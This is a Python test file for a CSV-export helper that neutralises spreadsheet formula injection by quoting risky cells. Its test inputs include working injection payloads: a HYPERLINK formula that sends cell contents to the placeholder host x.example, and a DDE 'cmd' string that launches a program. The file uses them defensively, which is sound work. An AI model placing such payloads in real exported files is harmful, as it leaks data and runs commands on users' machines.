"""Spreadsheet-safe CSV cells: the one rule every CSV writer uses."""

from __future__ import annotations

import re

import pytest

from territoria.spreadsheet import FORMULA_PATTERN, NUMBER_PATTERN, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"clic")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_starts_are_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+33", "-1e-3", "12", "Nice", "", "a=b", "06088", "-3\n"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    expected = "'" + text if text == "-3\n" else text  # a trailing newline is no plain number
    assert safe_cell(text) == expected


def test_the_patterns_say_the_same_as_the_function() -> None:
    for text in ["=1", "-3.5", "-x", "Nice", "@a", "+33"]:
        quoted = bool(re.search(FORMULA_PATTERN, text)) and not re.fullmatch(NUMBER_PATTERN, text)
        assert quoted is (safe_cell(text) != text)
